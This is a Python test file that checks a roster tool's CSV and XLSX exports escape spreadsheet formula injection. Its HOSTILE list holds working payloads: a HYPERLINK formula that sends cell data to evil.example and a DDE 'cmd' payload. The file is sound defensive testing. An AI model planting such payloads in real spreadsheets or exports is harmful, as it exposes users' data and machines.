"""CSV and XLSX outputs never carry a live formula (OWASP CSV injection), read back to check."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest

from borderwatch.data.safe_csv import FORMULA_STARTS, neutralise_cell, restore_cell
from borderwatch.errors import ScenarioError
from borderwatch.roster import build_week, people_from_rows, synthetic_people, week_files
from borderwatch.roster.history import read_history
from borderwatch.roster.io import write_week
from tests.roster.helpers import tiny_plan, tiny_site

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_and_restore(text: str) -> None:
    safe = neutralise_cell(text)
    assert safe.startswith("'") and not safe.startswith(FORMULA_STARTS)
    assert restore_cell(safe) == text


@pytest.mark.parametrize("value", ["-3.5", "+7", "Aidian", "a=b", "", 12, None])
def test_harmless_cells_unchanged(value: object) -> None:
    assert neutralise_cell(value) == value


@pytest.fixture(scope="module")
def hostile_week():
    site = tiny_site((2,), (2,))
    rows = synthetic_people(site, seed=3, n_leaders=4, leave_share=0.0)
    for row, name in zip(rows, HOSTILE * 10, strict=False):
        row["name"] = name
    return site, rows, build_week(site, people_from_rows(rows), "2026-W49", plan=tiny_plan(site))


def test_roster_csv_has_no_formula_cells(hostile_week) -> None:
    _site, _rows, week = hostile_week
    files = week_files(week, ["csv", "diff", "xlsx"])
    for name in ("roster.csv", "diff.csv"):
        cells = [c for row in csv.reader(io.StringIO(files[name].decode("utf-8"))) for c in row]
        assert cells
        bad = [c for c in cells if c.startswith(FORMULA_STARTS)]
        assert bad == [], name
    text = files["roster.csv"].decode("utf-8")
    assert "'=HYPERLINK" in text and "'@SUM(1+1)" in text


def test_roster_xlsx_has_no_formula_cells(hostile_week) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    _site, _rows, week = hostile_week
    data = week_files(week, ["csv", "xlsx"])["roster.xlsx"]
    wb = openpyxl.load_workbook(io.BytesIO(data))
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
                    seen += "'=" in cell.value or "'@" in cell.value
    assert seen > 0  # the hostile names are there, as text
    # nor in the XML itself: no <f> element anywhere
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in z.read(n) for n in sheets)


def test_a_formula_id_never_reaches_a_file() -> None:
    """An id that a spreadsheet would run is refused on load (ids are data: issue #22)."""
    site = tiny_site((2,), (2,))
    rows = synthetic_people(site, seed=3, n_leaders=4, leave_share=0.0)
    rows[0]["id"] = "=evil-id"
    with pytest.raises(ScenarioError, match="not an id"):
        people_from_rows(rows)


def test_history_reads_the_week_back(tmp_path: Path, hostile_week) -> None:
    _site, rows, week = hostile_week
    write_week(week, tmp_path)
    hist = read_history(tmp_path, date(2026, 12, 7))
    people = {r["person"] for r in hist.previous}
    assert people and people <= {r["id"] for r in rows}
